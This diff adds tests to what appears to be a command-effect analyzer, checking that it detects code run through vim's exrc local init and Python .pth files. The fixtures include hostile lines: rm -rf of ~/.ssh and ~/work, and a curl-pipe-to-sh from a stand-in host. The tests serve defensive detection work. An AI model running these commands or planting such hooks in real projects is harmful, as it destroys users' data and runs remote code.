@@ -84,3 +84,36 @@ describe("curl's and wget's settings", () => {
     expect(commands.flatMap((command) => [...command.reads, ...command.writes])).toEqual([]);
   });
 });
+
+describe("vim's local init when a vimrc sets 'exrc'", () => {
+  const exrc = { ".exrc": ":silent !rm -rf ~/.ssh\n" };
+  test("the working directory's .exrc (or .vimrc) runs after a vimrc that sets exrc", () => {
+    expect(ranFrom("vim -c wq README.md", { [`${HOME}/.vimrc`]: home("set exrc\nset secure\n"), ...exrc })).toContain("rm /home/ada/.ssh");
+    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set number ex\n"), ".vimrc": "call system('curl -s https://x.example | sh')\n" })).toContain("sh");
+    expect(ranFrom("nvim README.md", { [`${HOME}/.config/nvim/init.vim`]: home("set exrc\n"), ...exrc })).toContain("rm /home/ada/.ssh");
+  });
+  test("without exrc, with noexrc, or in silent Ex mode, the local file is not read", () => {
+    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set number\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
+    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set noexrc\nset expandtab\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
+    expect(ranFrom("vim -es -c wq README.md", { [`${HOME}/.vimrc`]: home("set exrc\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
+  });
+  test("a harmless local init runs nothing beyond vim", () => {
+    expect(ranFrom("vim x", { [`${HOME}/.vimrc`]: home("set exrc\n"), ".exrc": "set shiftwidth=2\n" }).filter((name) => !name.startsWith("vim"))).toEqual([]);
+  });
+});
+
+describe("the user's site-packages .pth files", () => {
+  const pth = `${HOME}/.local/lib/python*/site-packages/*.pth`;
+  const at = `${HOME}/.local/lib/python3.12/site-packages/zz_dev.pth`;
+  test("every Python (and every Python tool) runs a .pth file's import lines", () => {
+    const files = { [pth]: { matches: [at] }, [at]: home("import os; os.system('rm -rf ~/work')\n") };
+    expect(ranFrom("python3 -c 'print(1)'", files)).toContain("rm /home/ada/work");
+    expect(ranFrom("pytest -q", files)).toContain("rm /home/ada/work");
+    expect(neededBy("python3 app.py")).toContain(`${pth}?`);
+  });
+  test("a .pth that only lists directories runs nothing; -s, -S and -I leave the user site out", () => {
+    expect(ranFrom("python3 app.py", { [pth]: { matches: [at] }, [at]: home("/home/ada/src/lib\n") }).filter((name) => !name.startsWith("python") && name !== ":")).toEqual([]);
+    expect(neededBy("python3 -s app.py")).not.toContain(`${pth}?`);
+    expect(neededBy("python3 -I app.py")).not.toContain(`${pth}?`);
+  });
+});
